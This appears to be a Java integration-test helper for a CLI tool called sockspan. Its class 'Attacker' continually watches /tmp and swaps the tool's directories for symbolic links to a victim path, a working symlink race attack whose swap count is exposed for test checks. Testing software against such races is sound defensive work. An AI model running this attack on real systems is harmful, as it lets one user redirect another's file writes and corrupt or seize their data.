package io.sockspan.it.cli.app;

import io.sockspan.it.app.App;
import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A JVM whose user wants to lead whoever looks at it elsewhere: as soon as a directory of the command line's is in /tmp, another with the
 * same name takes its place, a link to what is not this user's.
 */
public final class Attacker implements Runnable {
    private static final Path TMP = Paths.get("/tmp");

    private final Path prey;
    private final AtomicInteger swaps = new AtomicInteger();

    private Attacker(Path prey) {
        this.prey = prey;
    }

    public static void main(String[] args) throws Exception {
        Attacker attacker = new Attacker(Paths.get(args[0]));
        Thread thread = new Thread(attacker, "attacker");
        thread.setDaemon(true);
        thread.start();
        new App().on("swaps", attacker.swaps::get).serve();
    }

    @Override
    public void run() {
        while (true) {
            try (DirectoryStream<Path> entries = Files.newDirectoryStream(TMP, "sockspan*")) {
                for (Path entry : entries) {
                    if (Files.isDirectory(entry.resolve("out"), LinkOption.NOFOLLOW_LINKS)) {
                        swap(entry);
                    }
                }
            } catch (IOException e) {
                // It was gone again, or is not this user's to move.
            }
        }
    }

    private void swap(Path entry) throws IOException {
        if (Files.isSymbolicLink(entry)) {
            return;
        }
        Files.move(entry, TMP.resolve("taken-" + swaps.get()));
        Files.createSymbolicLink(entry, prey);
        swaps.incrementAndGet();
    }
}
